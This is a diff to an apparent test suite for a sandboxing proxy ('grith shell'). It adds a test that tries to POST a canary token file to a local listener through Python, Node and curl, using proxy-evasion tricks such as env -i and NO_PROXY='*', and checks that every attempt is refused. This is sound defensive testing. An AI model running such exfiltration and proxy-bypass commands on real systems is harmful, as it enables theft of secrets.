@@ -79,6 +79,27 @@ describe('grith shell: the session proxy', () => {
     expect(fired.at(-1)).toMatchObject({ canaryId: token.id, action: 'deny' });
   });
 
+  it('a child cannot leave the proxy: env -i, emptied proxy variables and NO_PROXY=* are all overridden', async () => {
+    received.length = 0;
+    const url = `http://127.0.0.1:${port}`;
+    const py = `import urllib.request as u
+try:
+    u.urlopen(u.Request("${url}/py", data=open("token.txt","rb").read(), method="POST"), timeout=10); print("sent")
+except Exception as e: print("refused", getattr(e, "code", e))`;
+    const node = `fetch("${url}/node", { method: "POST", body: require("fs").readFileSync("token.txt") }).then((r) => console.log("status", r.status), (e) => console.log("refused"))`;
+    const script = [
+      `env -i /usr/bin/python3 -c '${py}'`,
+      `env -i "$(command -v node)" -e '${node}'`,
+      `NO_PROXY='*' no_proxy='*' HTTP_PROXY= http_proxy= curl -s -o /dev/null -w 'curl %{http_code}\n' --data-binary @token.txt ${url}/curl`,
+    ].join('; ');
+    const r = await grithRun(['shell', '-c', script], { home, cwd: root, timeoutMs: 60_000 });
+    expect(r.stdout).toMatch(/refused 403/);
+    expect(r.stdout).toMatch(/status 403/);
+    expect(r.stdout).toMatch(/curl 403/);
+    expect(r.stdout).not.toMatch(/sent/);
+    expect(received.join('\n')).not.toContain(token.value.slice(4));
+  }, 90_000);
+
   it('a static binary execs unchecked (known gap), and the proxy still stops what it sends', async () => {
     const src = join(root, 'static-exec.c');
     writeFileSync(
